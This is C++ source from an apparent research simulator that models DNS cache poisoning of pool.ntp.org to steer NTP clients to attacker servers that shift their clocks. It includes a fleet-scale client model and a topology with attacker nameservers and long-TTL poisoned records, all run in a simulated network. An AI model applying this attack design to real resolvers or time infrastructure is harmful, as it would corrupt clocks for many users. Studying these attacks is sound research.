  PacketBuf buf_;
  u8* cur_ = nullptr;
  u8* cap_end_ = nullptr;
  std::size_t headroom_;
};

/// Sequential big-endian reader over a borrowed buffer.
class ByteReader {
 public:
  explicit ByteReader(std::span<const u8> data) : data_(data) {}

  [[nodiscard]] u8 read_u8() {
    require(1);
    return data_[pos_++];
  }
  [[nodiscard]] u16 read_u16() {
    require(2);
    u16 v = (u16{data_[pos_]} << 8) | u16{data_[pos_ + 1]};
    pos_ += 2;
    return v;
  }
  [[nodiscard]] u32 read_u32() {
    u32 hi = read_u16();
    return (hi << 16) | read_u16();
  }
  [[nodiscard]] u64 read_u64() {
    u64 hi = read_u32();
    return (hi << 32) | read_u32();
  }
  [[nodiscard]] Bytes read_bytes(std::size_t n) {
    require(n);
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
              data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
    pos_ += n;
    return out;
  }
  [[nodiscard]] Bytes read_remaining() { return read_bytes(remaining()); }

  void skip(std::size_t n) {
    require(n);
    pos_ += n;
  }
  void seek(std::size_t pos) {
    if (pos > data_.size()) throw DecodeError("seek out of range");
    pos_ = pos;
  }

  [[nodiscard]] std::size_t pos() const { return pos_; }
  [[nodiscard]] std::size_t remaining() const { return data_.size() - pos_; }
  [[nodiscard]] bool empty() const { return remaining() == 0; }
  [[nodiscard]] std::span<const u8> raw() const { return data_; }

 private:
  void require(std::size_t n) const {
    if (pos_ + n > data_.size()) throw DecodeError("truncated input");
  }
  std::span<const u8> data_;
  std::size_t pos_ = 0;
};

}  // namespace dnstime
