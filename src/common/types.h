// Basic value types shared across the library.
//
// The simulator works with real wire formats, so addresses and ports are
// modelled exactly as on the wire: IPv4 addresses are 32-bit big-endian
// values, ports are 16 bits.
#pragma once

#include <array>
#include <compare>
#include <cstdint>
#include <string>

namespace dnstime {

using u8 = std::uint8_t;
using u16 = std::uint16_t;
using u32 = std::uint32_t;
using u64 = std::uint64_t;
using i8 = std::int8_t;
using i64 = std::int64_t;

/// An IPv4 address. Stored in host order; serialised big-endian by codecs.
class Ipv4Addr {
 public:
  constexpr Ipv4Addr() = default;
  constexpr explicit Ipv4Addr(u32 value) : value_(value) {}
  constexpr Ipv4Addr(u8 a, u8 b, u8 c, u8 d)
      : value_((u32{a} << 24) | (u32{b} << 16) | (u32{c} << 8) | u32{d}) {}

  [[nodiscard]] constexpr u32 value() const { return value_; }
  [[nodiscard]] constexpr std::array<u8, 4> octets() const {
    return {static_cast<u8>(value_ >> 24), static_cast<u8>(value_ >> 16),
            static_cast<u8>(value_ >> 8), static_cast<u8>(value_)};
  }

  /// /24 network prefix, used by the shared-resolver discovery scan which
  /// port-scans the /24 of every observed resolver (paper §VIII-B3).
  [[nodiscard]] constexpr u32 slash24() const { return value_ >> 8; }

  [[nodiscard]] std::string to_string() const {
    auto o = octets();
    return std::to_string(o[0]) + "." + std::to_string(o[1]) + "." +
           std::to_string(o[2]) + "." + std::to_string(o[3]);
  }

  friend constexpr auto operator<=>(Ipv4Addr, Ipv4Addr) = default;

 private:
  u32 value_ = 0;
};

/// Unspecified address, used as "not yet assigned".
inline constexpr Ipv4Addr kAnyAddr{};

/// Well-known ports used throughout the simulation.
inline constexpr u16 kDnsPort = 53;
inline constexpr u16 kNtpPort = 123;
inline constexpr u16 kSmtpPort = 25;

}  // namespace dnstime

template <>
struct std::hash<dnstime::Ipv4Addr> {
  std::size_t operator()(const dnstime::Ipv4Addr& a) const noexcept {
    return std::hash<dnstime::u32>{}(a.value());
  }
};
