// Population-scale client worlds: 10^5..10^7 NTP clients in one World.
//
// The single-victim worlds instantiate a NetStack + client object per
// host; at fleet scale that is hundreds of bytes and several heap
// allocations per client before the first packet moves. ClientPopulation
// instead keeps the whole fleet as flat struct-of-arrays state — one
// server address, one accumulated clock shift, one DNS expiry, one poll
// interval and one flags byte per client — and drives every poll deadline
// through a sim::WheelQueue with the client index as the payload
// (src/sim/timer_wheel.h): O(1) placement, ~24 B per armed timer, no
// callbacks.
//
// The fleet still speaks the real protocols. Clients whose polls land in
// the same whole second of simulated time (deadlines are quantised to a
// 1 s grid, which is what makes herds form) and target the same server are
// batched: one representative NTP exchange per <= batch_cap clients goes
// out on the wire from a small pool of shared gateway NetStacks, through
// the real UDP/IP path, against the real pool/attacker NTP servers with
// their real rate limiters. The gateway clocks are true time, so the
// exchange measures the *server's* offset; each batched client i then
// disciplines on sample_i = server_offset - shift_i through the same
// ntp::classify_offset policy the single-victim clients use. DNS works the
// same way: all clients share the World's recursive resolver via one
// in-flight StubResolver query, and each client tracks its own answer
// expiry — so a poisoning that lands on the shared resolver migrates to
// the fleet exactly as fast as per-client TTLs roll over, which is the
// population-scale version of the paper's shared-resolver amplification
// (§VIII-B3: one cache entry redirects every client behind the resolver).
//
// Determinism: deadlines pop from the wheel in (time, insertion) order,
// batching sorts by server address with std::stable_sort, gateways rotate
// round-robin, and the only randomness is the seeded Rng that staggers
// initial polls. Equal seeds give byte-equal fleet state at any point.
#pragma once

#include <string>
#include <vector>

#include "common/rng.h"
#include "dns/resolver.h"
#include "ntp/poll_policy.h"
#include "scenario/world.h"
#include "sim/timer_wheel.h"

namespace dnstime::scenario {

struct PopulationConfig {
  u32 clients = 100'000;
  u64 seed = 1;
  std::string pool_domain = "pool.ntp.org";
  /// Shared gateway NetStacks (10.200.0.x) that carry the representative
  /// exchanges; rotation spreads the per-source rate-limit cost.
  u32 gateways = 16;
  /// Max clients represented by one wire exchange.
  u32 batch_cap = 256;
  /// Steady-state poll interval (ntpd default 64 s); initial polls are
  /// staggered uniformly across one interval so cohorts spread.
  u32 poll_s = 64;
  /// Backoff ceiling after KoD / timeout (doubles per failure).
  u32 max_poll_s = 1024;
  sim::Duration poll_timeout = sim::Duration::seconds(2);
  ntp::PollPolicy policy;
};

/// The fleet. Construct against a World, then drive the World's loop as
/// usual (world.run_for(...)); the population keeps itself scheduled.
class ClientPopulation {
 public:
  struct Metrics {
    u64 polls = 0;          ///< client-polls represented by exchanges
    u64 exchanges = 0;      ///< wire exchanges actually performed
    u64 kod_polls = 0;      ///< client-polls answered by a KoD
    u64 timeout_polls = 0;  ///< client-polls whose exchange timed out
    u64 dns_queries = 0;    ///< shared StubResolver queries issued
    u64 dns_waits = 0;      ///< client-polls that waited on a DNS answer
    u64 steps = 0;          ///< discipline outcomes across the fleet
    u64 slews = 0;
    u64 refused = 0;
  };

  ClientPopulation(World& world, PopulationConfig config);
  ~ClientPopulation();

  ClientPopulation(const ClientPopulation&) = delete;
  ClientPopulation& operator=(const ClientPopulation&) = delete;

  [[nodiscard]] u32 clients() const { return config_.clients; }
  [[nodiscard]] const Metrics& metrics() const { return metrics_; }

  /// Accumulated clock shift (seconds) of client `i`; 0 = still true time.
  [[nodiscard]] double shift_of(u32 i) const { return shift_[i]; }

  /// Fraction of the fleet shifted at least as far as `threshold`
  /// (threshold < 0 counts shift <= threshold; > 0 counts shift >=
  /// threshold). The campaign's fleet-shift metric.
  [[nodiscard]] double fraction_shifted(double threshold) const;

  /// Mean accumulated shift across the fleet (seconds).
  [[nodiscard]] double mean_shift_s() const;

  /// Fraction of clients currently assigned an attacker NTP server.
  [[nodiscard]] double fraction_on_attacker() const;

  /// Resident heap bytes of fleet state (SoA vectors + timer wheel),
  /// amortised per client. The population budget is <= 64 B/client.
  [[nodiscard]] double resident_bytes_per_client() const;

 private:
  enum Flags : u8 {
    kSynced = 1u << 0,  ///< applied at least one offset (at_boot is over)
  };

  [[nodiscard]] static sim::Time at_second(u64 s) {
    return sim::Time::from_ns(
        sim::detail::sat_mul(static_cast<i64>(s), 1'000'000'000));
  }
  [[nodiscard]] u64 now_s() const;

  /// Arm client i's next poll `delay_s` whole seconds from now (grid-
  /// quantised, so co-due clients batch).
  void arm(u32 i, u64 delay_s);
  void backoff(u32 i);

  /// Driver: pops every due wheel entry, groups the due clients, sends
  /// the representative exchanges / the shared DNS query, re-arms itself
  /// at the wheel's next deadline.
  void pump();
  void rearm_driver();
  void dispatch_polls(std::vector<u32>& due);
  void begin_exchange(Ipv4Addr server, std::vector<u32> batch);
  void maybe_resolve();
  void on_dns(const std::vector<dns::ResourceRecord>& answers);
  void apply_offset(u32 i, double server_offset);

  World& world_;
  PopulationConfig config_;
  Rng rng_;

  std::vector<World::Host*> gateways_;
  u32 gw_next_ = 0;
  dns::StubResolver stub_;
  bool resolve_inflight_ = false;

  /// Fleet-level copy of the last shared-resolver answer. Clients whose
  /// polls land while it is fresh are assigned from it directly — the
  /// shared resolver would serve them from its cache anyway, so the whole
  /// fleet costs one StubResolver query per TTL window.
  std::vector<u32> cached_a_;
  u32 cache_expiry_s_ = 0;
  u32 cache_next_ = 0;  ///< round-robin cursor over cached_a_

  // --- flat per-client state (the SoA) --------------------------------
  std::vector<u32> server_;       ///< assigned NTP server (0 = unresolved)
  std::vector<double> shift_;     ///< accumulated clock shift, seconds
  std::vector<u32> dns_expiry_s_; ///< sim-second the DNS answer expires
  std::vector<u16> poll_s_;       ///< current poll interval, seconds
  std::vector<u8> flags_;

  sim::WheelQueue queue_;  ///< payload = client index
  sim::EventHandle driver_;
  sim::Time driver_at_;
  bool driver_armed_ = false;

  std::vector<u32> dns_waiters_;
  std::vector<u32> due_scratch_;

  Metrics metrics_;
};

}  // namespace dnstime::scenario
