#include "scenario/population.h"

#include <algorithm>
#include <limits>
#include <memory>

#include "ntp/packet.h"
#include "obs/counters.h"

namespace dnstime::scenario {

namespace {

/// Gateway block: 10.200.0.x, disjoint from the victim (10.77/16), pool
/// (10.10/16) and attacker (6.6/16) blocks the World allocates.
constexpr u32 kGatewayBase = 0x0AC80001u;

std::vector<World::Host*> make_gateways(World& world, u32 count) {
  const u32 n = std::min(std::max(count, 1u), 250u);
  std::vector<World::Host*> out;
  out.reserve(n);
  for (u32 g = 0; g < n; ++g) {
    out.push_back(&world.add_host(Ipv4Addr(kGatewayBase + g)));
  }
  return out;
}

}  // namespace

ClientPopulation::ClientPopulation(World& world, PopulationConfig config)
    : world_(world),
      config_(std::move(config)),
      rng_(config_.seed),
      gateways_(make_gateways(world, config_.gateways)),
      stub_(*gateways_.front()->stack, world.resolver_addr()) {
  if (config_.poll_s == 0) config_.poll_s = 1;
  if (config_.poll_s > 0xFFFF) config_.poll_s = 0xFFFF;
  if (config_.max_poll_s < config_.poll_s) config_.max_poll_s = config_.poll_s;
  if (config_.max_poll_s > 0xFFFF) config_.max_poll_s = 0xFFFF;
  if (config_.batch_cap == 0) config_.batch_cap = 1;

  const u32 n = config_.clients;
  server_.assign(n, 0);
  shift_.assign(n, 0.0);
  dns_expiry_s_.assign(n, 0);
  poll_s_.assign(n, static_cast<u16>(config_.poll_s));
  flags_.assign(n, 0);

  // Stagger the first polls uniformly across one poll interval so the
  // fleet settles into ~clients/poll_s cohorts per grid second instead of
  // one thundering herd.
  for (u32 i = 0; i < n; ++i) {
    arm(i, 1 + rng_.uniform(0, config_.poll_s - 1));
  }
  rearm_driver();
}

ClientPopulation::~ClientPopulation() {
  // The driver captures `this`; kill it so a World outliving the
  // population cannot fire into freed fleet state. (Exchange handlers are
  // bounded by poll_timeout; trials tear the World down with the
  // population, so only the self-rescheduling driver needs this.)
  if (driver_armed_) driver_.cancel();
  DNSTIME_COUNT_ADD("population.clients", config_.clients);
  DNSTIME_COUNT_ADD("population.polls", metrics_.polls);
  DNSTIME_COUNT_ADD("population.exchanges", metrics_.exchanges);
  DNSTIME_COUNT_ADD("population.kod_polls", metrics_.kod_polls);
  DNSTIME_COUNT_ADD("population.timeout_polls", metrics_.timeout_polls);
  DNSTIME_COUNT_ADD("population.dns_queries", metrics_.dns_queries);
  DNSTIME_COUNT_ADD("population.dns_waits", metrics_.dns_waits);
  DNSTIME_COUNT_ADD("population.steps", metrics_.steps);
  DNSTIME_COUNT_ADD("population.slews", metrics_.slews);
  DNSTIME_COUNT_ADD("population.refused", metrics_.refused);
}

u64 ClientPopulation::now_s() const {
  const i64 ns = world_.loop().now().ns();
  return ns <= 0 ? 0 : static_cast<u64>(ns) / 1'000'000'000u;
}

void ClientPopulation::arm(u32 i, u64 delay_s) {
  queue_.push(at_second(now_s() + delay_s), i);
}

void ClientPopulation::backoff(u32 i) {
  const u32 next =
      std::min<u32>(static_cast<u32>(poll_s_[i]) * 2u, config_.max_poll_s);
  poll_s_[i] = static_cast<u16>(next);
  arm(i, next);
}

void ClientPopulation::rearm_driver() {
  const sim::WheelEntry* top = queue_.peek();
  if (top == nullptr) {
    if (driver_armed_) {
      driver_.cancel();
      driver_armed_ = false;
    }
    return;
  }
  // An already-armed driver that fires at or before the new head still
  // works (an early pump pops nothing and re-arms); only a head that moved
  // *earlier* forces a reschedule.
  if (driver_armed_ && driver_.valid() && driver_at_ <= top->at) return;
  if (driver_armed_) driver_.cancel();
  sim::Time at = top->at;
  const sim::Time now = world_.loop().now();
  if (at < now) at = now;
  driver_ = world_.loop().schedule_at(at, [this] { pump(); });
  driver_at_ = at;
  driver_armed_ = true;
}

void ClientPopulation::pump() {
  driver_armed_ = false;  // our handle just fired
  const sim::Time now = world_.loop().now();
  due_scratch_.clear();
  while (const sim::WheelEntry* top = queue_.peek()) {
    if (top->at > now) break;
    sim::WheelEntry e;
    queue_.pop(e);
    due_scratch_.push_back(e.payload);
  }

  const u64 s = now_s();
  std::vector<u32> polls;
  polls.reserve(due_scratch_.size());
  for (u32 i : due_scratch_) {
    if (server_[i] == 0 || dns_expiry_s_[i] <= s) {
      if (!cached_a_.empty() && s < cache_expiry_s_) {
        // The shared resolver would answer this from its cache; serve the
        // fleet-level copy instead of issuing another query.
        server_[i] = cached_a_[cache_next_++ % cached_a_.size()];
        dns_expiry_s_[i] = cache_expiry_s_;
        polls.push_back(i);
      } else {
        // Unresolved or TTL-expired: this poll waits on the shared
        // resolver.
        dns_waiters_.push_back(i);
        metrics_.dns_waits++;
      }
    } else {
      polls.push_back(i);
    }
  }
  dispatch_polls(polls);
  maybe_resolve();
  rearm_driver();
}

void ClientPopulation::dispatch_polls(std::vector<u32>& due) {
  if (due.empty()) return;
  // Group by assigned server. stable_sort keeps the wheel's (time, seq)
  // pop order within a group, so batch membership is deterministic.
  std::stable_sort(due.begin(), due.end(), [this](u32 a, u32 b) {
    return server_[a] < server_[b];
  });
  std::size_t start = 0;
  while (start < due.size()) {
    const u32 server = server_[due[start]];
    std::size_t end = start;
    while (end < due.size() && server_[due[end]] == server &&
           end - start < config_.batch_cap) {
      end++;
    }
    begin_exchange(Ipv4Addr(server),
                   std::vector<u32>(due.begin() + static_cast<std::ptrdiff_t>(start),
                                    due.begin() + static_cast<std::ptrdiff_t>(end)));
    start = end;
  }
}

void ClientPopulation::begin_exchange(Ipv4Addr server, std::vector<u32> batch) {
  World::Host* gw = gateways_[gw_next_++ % gateways_.size()];
  net::NetStack& stack = *gw->stack;
  const u16 port = stack.ephemeral_port();
  // Gateway clocks stay at true time, so t1/t4 measure the *server's*
  // offset; each batched client subtracts its own shift afterwards.
  const double t1 = gw->clock.wall_seconds(stack.now());

  metrics_.exchanges++;
  metrics_.polls += batch.size();

  auto state = std::make_shared<std::vector<u32>>(std::move(batch));
  auto done = std::make_shared<bool>(false);
  enum { kTimeout, kKod, kSample };
  auto finish = [this, gw, port, state, done](int outcome, double offset) {
    if (*done) return;
    *done = true;
    gw->stack->unbind_udp(port);
    switch (outcome) {
      case kTimeout:
        metrics_.timeout_polls += state->size();
        for (u32 i : *state) backoff(i);
        break;
      case kKod:
        metrics_.kod_polls += state->size();
        for (u32 i : *state) backoff(i);
        break;
      default:
        for (u32 i : *state) apply_offset(i, offset);
        break;
    }
    rearm_driver();
  };

  stack.bind_udp(port, [t1, server, gw, finish](const net::UdpEndpoint& from,
                                                u16, BufView payload) {
    if (from.addr != server || from.port != kNtpPort) return;
    ntp::NtpPacket resp;
    try {
      resp = ntp::decode_ntp(payload);
    } catch (const DecodeError&) {
      return;
    }
    if (resp.mode != ntp::Mode::kServer) return;
    if (resp.is_rate_kod()) {
      finish(kKod, 0.0);
      return;
    }
    if (resp.org_time != t1) return;
    const double t4 = gw->clock.wall_seconds(gw->stack->now());
    const double offset = ((resp.rx_time - t1) + (resp.tx_time - t4)) / 2.0;
    finish(kSample, offset);
  });

  ntp::NtpPacket query;
  query.mode = ntp::Mode::kClient;
  query.tx_time = t1;
  stack.send_udp(server, port, kNtpPort, ntp::encode_ntp_buf(query));

  stack.loop().schedule_after(config_.poll_timeout,
                              [finish] { finish(kTimeout, 0.0); });
}

void ClientPopulation::maybe_resolve() {
  if (dns_waiters_.empty() || resolve_inflight_) return;
  resolve_inflight_ = true;
  metrics_.dns_queries++;
  stub_.resolve(dns::DnsName::from_string(config_.pool_domain),
                dns::RrType::kA,
                [this](const std::vector<dns::ResourceRecord>& answers) {
                  on_dns(answers);
                });
}

void ClientPopulation::on_dns(const std::vector<dns::ResourceRecord>& answers) {
  resolve_inflight_ = false;
  std::vector<u32> waiters;
  waiters.swap(dns_waiters_);

  std::vector<const dns::ResourceRecord*> a_records;
  for (const auto& rr : answers) {
    if (rr.type == dns::RrType::kA) a_records.push_back(&rr);
  }

  if (a_records.empty()) {
    // Resolution failed: keep any stale assignment, back the poll off and
    // retry DNS on the next fire (the expiry stays in the past).
    for (u32 i : waiters) backoff(i);
  } else {
    const u64 s = now_s();
    const sim::Time now = world_.loop().now();
    // Refresh the fleet-level answer cache; later cohorts are assigned
    // from it without re-querying until the shortest A TTL rolls over.
    cached_a_.clear();
    u64 min_ttl = std::numeric_limits<u64>::max();
    for (const dns::ResourceRecord* rr : a_records) {
      cached_a_.push_back(rr->a.value());
      min_ttl = std::min<u64>(min_ttl, rr->ttl);
    }
    cache_expiry_s_ = static_cast<u32>(
        std::min<u64>(s + min_ttl, std::numeric_limits<u32>::max()));
    for (u32 i : waiters) {
      server_[i] = cached_a_[cache_next_++ % cached_a_.size()];
      dns_expiry_s_[i] = cache_expiry_s_;
      queue_.push(now, i);  // poll immediately on the fresh assignment
    }
  }
  maybe_resolve();  // waiters queued while the query was in flight
  rearm_driver();
}

void ClientPopulation::apply_offset(u32 i, double server_offset) {
  // The gateway measured the server against true time; this client's
  // clock is off by shift_[i], so its own measurement would read:
  const double sample = server_offset - shift_[i];
  const bool at_boot = (flags_[i] & kSynced) == 0;
  switch (ntp::classify_offset(sample, at_boot, config_.policy)) {
    case ntp::OffsetAction::kNone:
      break;
    case ntp::OffsetAction::kSlew:
      shift_[i] += sample;
      flags_[i] |= kSynced;
      metrics_.slews++;
      break;
    case ntp::OffsetAction::kStep:
      shift_[i] += sample;
      flags_[i] |= kSynced;
      metrics_.steps++;
      break;
    case ntp::OffsetAction::kRefuse:
      metrics_.refused++;
      break;
  }
  poll_s_[i] = static_cast<u16>(config_.poll_s);  // healthy again
  arm(i, poll_s_[i]);
}

double ClientPopulation::fraction_shifted(double threshold) const {
  if (shift_.empty()) return 0.0;
  u64 hit = 0;
  for (double s : shift_) {
    if (threshold < 0 ? s <= threshold : s >= threshold) hit++;
  }
  return static_cast<double>(hit) / static_cast<double>(shift_.size());
}

double ClientPopulation::mean_shift_s() const {
  if (shift_.empty()) return 0.0;
  double sum = 0.0;
  for (double s : shift_) sum += s;
  return sum / static_cast<double>(shift_.size());
}

double ClientPopulation::fraction_on_attacker() const {
  if (server_.empty()) return 0.0;
  u64 hit = 0;
  for (u32 s : server_) {
    if (s != 0 && world_.is_attacker_ntp(Ipv4Addr(s))) hit++;
  }
  return static_cast<double>(hit) / static_cast<double>(server_.size());
}

double ClientPopulation::resident_bytes_per_client() const {
  if (config_.clients == 0) return 0.0;
  std::size_t bytes = server_.capacity() * sizeof(u32) +
                      shift_.capacity() * sizeof(double) +
                      dns_expiry_s_.capacity() * sizeof(u32) +
                      poll_s_.capacity() * sizeof(u16) +
                      flags_.capacity() * sizeof(u8) +
                      dns_waiters_.capacity() * sizeof(u32) +
                      due_scratch_.capacity() * sizeof(u32) +
                      cached_a_.capacity() * sizeof(u32) +
                      queue_.memory_bytes();
  return static_cast<double>(bytes) / static_cast<double>(config_.clients);
}

}  // namespace dnstime::scenario
