// Canonical experiment topology, shared by tests, examples and benches.
//
// One World = one simulated internet containing:
//   * the pool.ntp.org authoritative nameserver (PoolZone: rotating 4
//     answers, TTL 150 s, NS + glue tail, optional DNSSEC absence — §VII-B);
//   * a configurable fleet of pool NTP servers (a fraction rate-limits,
//     per the §VII-A scan);
//   * the victim's recursive resolver (fragment acceptance / DNSSEC
//     validation per study knobs);
//   * the attacker: one off-path host, its own nameserver (which serves
//     pool.ntp.org after the delegation hijack) and shifted-time NTP
//     servers.
// Victim client hosts are added on demand.
#pragma once

#include <memory>

#include "attack/cache_poisoner.h"
#include "dns/nameserver.h"
#include "dns/pool_zone.h"
#include "dns/resolver.h"
#include "ntp/server.h"

namespace dnstime::scenario {

struct WorldConfig {
  u64 seed = 1;
  /// Pool servers behind pool.ntp.org.
  std::size_t pool_size = 16;
  /// Fraction of pool servers that enable rate limiting (§VII-A: 38%).
  double rate_limit_fraction = 1.0;
  /// Fraction of rate limiters that send KoD before going silent (33/38).
  double kod_fraction = 0.87;
  /// Fraction of pool servers exposing the config interface (5.3%).
  double open_config_fraction = 0.0;
  /// TXT padding in pool responses, sized so the NS/glue tail crosses the
  /// fragment boundary at `attack_mtu` (stands in for the paper's
  /// response-inflation tricks).
  std::size_t pool_response_pad = 80;
  /// Attacker-served time shift (the paper's lab used -500 s).
  double attacker_time_shift = -500.0;
  /// Number of attacker NTP servers (4 plain; 89 for the Chronos attack).
  std::size_t attacker_ntp_count = 4;
  /// TTL of the pool A records (§IV-A: 150 s); campaign sweeps vary it to
  /// show how re-query cadence bounds the attack windows.
  u32 pool_a_ttl = 150;
  u16 attack_mtu = 296;
  net::StackConfig resolver_stack;   ///< fragment policy of the resolver
  dns::Resolver::Config resolver;
  net::StackConfig ns_stack;         ///< PMTUD policy of the nameserver
  sim::Duration link_latency = sim::Duration::millis(10);
};

class World {
 public:
  explicit World(WorldConfig config = {});

  [[nodiscard]] sim::EventLoop& loop() { return loop_; }
  [[nodiscard]] sim::Network& net() { return net_; }
  [[nodiscard]] const WorldConfig& config() const { return config_; }

  // --- victim-side infrastructure -------------------------------------
  [[nodiscard]] Ipv4Addr resolver_addr() const { return resolver_stack_->addr(); }
  [[nodiscard]] dns::Resolver& resolver() { return *resolver_; }
  [[nodiscard]] dns::PoolZone& pool_zone() { return *pool_zone_; }
  [[nodiscard]] Ipv4Addr pool_ns_addr() const { return ns_stack_->addr(); }
  [[nodiscard]] net::NetStack& pool_ns_stack() { return *ns_stack_; }
  [[nodiscard]] std::vector<Ipv4Addr> pool_server_addrs() const;
  [[nodiscard]] ntp::NtpServer& pool_server(std::size_t i) {
    return *pool_servers_[i]->server;
  }

  // --- attacker-side ---------------------------------------------------
  [[nodiscard]] net::NetStack& attacker() { return *attacker_stack_; }
  [[nodiscard]] Ipv4Addr attacker_ns_addr() const {
    return attacker_ns_stack_->addr();
  }
  [[nodiscard]] std::vector<Ipv4Addr> attacker_ntp_addrs() const;
  /// Poisoner configuration wired to this world's addresses.
  [[nodiscard]] attack::PoisonerConfig default_poisoner_config() const;

  // --- victim hosts ----------------------------------------------------
  struct Host {
    std::unique_ptr<net::NetStack> stack;
    ntp::SystemClock clock;
  };
  /// Create a victim host (e.g. for an NTP client); the World keeps it
  /// alive.
  Host& add_host(Ipv4Addr addr,
                 net::StackConfig stack_config = net::StackConfig{});

  // --- state checks ----------------------------------------------------
  /// Does the resolver currently serve attacker addresses for
  /// pool.ntp.org A (fresh resolution; consults cached delegation)?
  [[nodiscard]] bool delegation_hijacked();
  /// Is an attacker address cached for the pool A record right now?
  [[nodiscard]] bool pool_a_poisoned();
  [[nodiscard]] bool is_attacker_ntp(Ipv4Addr addr) const;

  /// Advance simulation time.
  void run_for(sim::Duration d) { loop_.run_for(d); }

 private:
  struct PoolServer {
    std::unique_ptr<net::NetStack> stack;
    std::unique_ptr<ntp::SystemClock> clock;
    std::unique_ptr<ntp::NtpServer> server;
  };

  WorldConfig config_;
  Rng rng_;
  sim::EventLoop loop_;
  sim::Network net_;

  std::unique_ptr<net::NetStack> ns_stack_;
  std::unique_ptr<dns::Nameserver> nameserver_;
  std::shared_ptr<dns::PoolZone> pool_zone_;
  std::vector<std::unique_ptr<PoolServer>> pool_servers_;

  std::unique_ptr<net::NetStack> resolver_stack_;
  std::unique_ptr<dns::Resolver> resolver_;

  std::unique_ptr<net::NetStack> attacker_stack_;
  std::unique_ptr<net::NetStack> attacker_ns_stack_;
  std::unique_ptr<dns::Nameserver> attacker_nameserver_;
  std::vector<std::unique_ptr<PoolServer>> attacker_ntp_;

  std::vector<std::unique_ptr<Host>> hosts_;
};

}  // namespace dnstime::scenario
