#include "scenario/world.h"

#include "obs/provenance.h"

namespace dnstime::scenario {

namespace {
const dns::DnsName kPoolName = dns::DnsName::from_string("pool.ntp.org");
}  // namespace

World::World(WorldConfig config)
    : config_(std::move(config)),
      rng_(config_.seed),
      loop_(),
      net_(loop_, rng_.fork()) {
  net_.set_default_profile(
      sim::LinkProfile{.latency = config_.link_latency});

  // Pool NTP servers: 10.10.x.y.
  std::vector<Ipv4Addr> pool_addrs;
  for (std::size_t i = 0; i < config_.pool_size; ++i) {
    auto ps = std::make_unique<PoolServer>();
    Ipv4Addr addr{static_cast<u32>(0x0A0A0000 + i + 1)};
    net::StackConfig pool_sc;
    pool_sc.origin_module = OriginModule::kPoolNtp;
    ps->stack = std::make_unique<net::NetStack>(net_, addr, pool_sc,
                                                rng_.fork());
    ps->clock = std::make_unique<ntp::SystemClock>(0.0);
    ntp::ServerConfig sc;
    bool limits = rng_.chance(config_.rate_limit_fraction);
    sc.rate_limit.enabled = limits;
    sc.rate_limit.send_kod = limits && rng_.chance(config_.kod_fraction);
    sc.open_config_interface = rng_.chance(config_.open_config_fraction);
    sc.configured_hostname = "pool.ntp.org";
    ps->server = std::make_unique<ntp::NtpServer>(*ps->stack, *ps->clock, sc);
    pool_addrs.push_back(addr);
    pool_servers_.push_back(std::move(ps));
  }

  // pool.ntp.org authoritative nameserver at 198.51.100.53.
  net::StackConfig ns_sc = config_.ns_stack;
  ns_sc.origin_module = OriginModule::kNameserver;
  ns_stack_ = std::make_unique<net::NetStack>(
      net_, Ipv4Addr{198, 51, 100, 53}, ns_sc, rng_.fork());
  nameserver_ = std::make_unique<dns::Nameserver>(*ns_stack_);
  dns::PoolZone::Config pz;
  pz.a_ttl = config_.pool_a_ttl;
  pz.pad_txt_bytes = config_.pool_response_pad;
  pz.nameservers = {
      {dns::DnsName::from_string("ns1.ntp.org"), ns_stack_->addr()},
      {dns::DnsName::from_string("ns2.ntp.org"), ns_stack_->addr()},
      {dns::DnsName::from_string("ns3.ntp.org"), ns_stack_->addr()},
  };
  pool_zone_ = std::make_shared<dns::PoolZone>(kPoolName, pool_addrs, pz);
  nameserver_->add_zone(pool_zone_);

  // Victim recursive resolver at 10.53.0.1.
  net::StackConfig resolver_sc = config_.resolver_stack;
  resolver_sc.origin_module = OriginModule::kResolver;
  resolver_stack_ = std::make_unique<net::NetStack>(
      net_, Ipv4Addr{10, 53, 0, 1}, resolver_sc, rng_.fork());
  resolver_ = std::make_unique<dns::Resolver>(*resolver_stack_,
                                              config_.resolver);
  resolver_->add_zone_hint(dns::DnsName::from_string("ntp.org"),
                           {ns_stack_->addr()});

  // Attacker: host 6.6.6.6, nameserver 6.6.6.53, NTP servers 6.6.7.x.
  net::StackConfig attacker_sc;
  attacker_sc.origin_module = OriginModule::kAttacker;
  attacker_stack_ = std::make_unique<net::NetStack>(
      net_, Ipv4Addr{6, 6, 6, 6}, attacker_sc, rng_.fork());
  net::StackConfig attacker_ns_sc;
  attacker_ns_sc.origin_module = OriginModule::kAttackerNs;
  attacker_ns_stack_ = std::make_unique<net::NetStack>(
      net_, Ipv4Addr{6, 6, 6, 53}, attacker_ns_sc, rng_.fork());
  attacker_nameserver_ = std::make_unique<dns::Nameserver>(*attacker_ns_stack_);
  auto evil_zone = std::make_shared<dns::StaticZone>(kPoolName);
  for (std::size_t i = 0; i < config_.attacker_ntp_count; ++i) {
    auto ps = std::make_unique<PoolServer>();
    Ipv4Addr addr{static_cast<u32>(0x06060700 + i + 1)};
    net::StackConfig evil_sc;
    evil_sc.origin_module = OriginModule::kAttackerNtp;
    ps->stack = std::make_unique<net::NetStack>(net_, addr, evil_sc,
                                                rng_.fork());
    ps->clock = std::make_unique<ntp::SystemClock>(0.0);
    ntp::ServerConfig sc;
    sc.time_shift = config_.attacker_time_shift;
    // Attacker servers never rate-limit: the attacker wants every victim
    // query answered.
    ps->server = std::make_unique<ntp::NtpServer>(*ps->stack, *ps->clock, sc);
    // Long TTL: keeps the poisoned answer pinned (>=24 h for Chronos).
    evil_zone->add(dns::make_a(kPoolName, addr, 25 * 3600));
    // Country/numbered subzones resolve to the same attacker servers.
    evil_zone->add(dns::make_a(kPoolName.prepend("0"), addr, 25 * 3600));
    attacker_ntp_.push_back(std::move(ps));
  }
  attacker_nameserver_->add_zone(std::move(evil_zone));

  // Observability: any cached answer the resolver serves that carries one
  // of these addresses is a poisoned entry (dns.poisoned_served metric).
  // The same set feeds the trial's flight recorder so NTP peer events
  // against attacker servers count as the chain's "peer steered" stage.
  std::vector<Ipv4Addr> tainted = attacker_ntp_addrs();
  tainted.push_back(attacker_ns_stack_->addr());
  for (Ipv4Addr a : tainted) {
    DNSTIME_PROV_EVENT(add_tainted(a.value()));
  }
  resolver_->mark_tainted(std::move(tainted));
}

std::vector<Ipv4Addr> World::pool_server_addrs() const {
  std::vector<Ipv4Addr> out;
  out.reserve(pool_servers_.size());
  for (const auto& ps : pool_servers_) out.push_back(ps->stack->addr());
  return out;
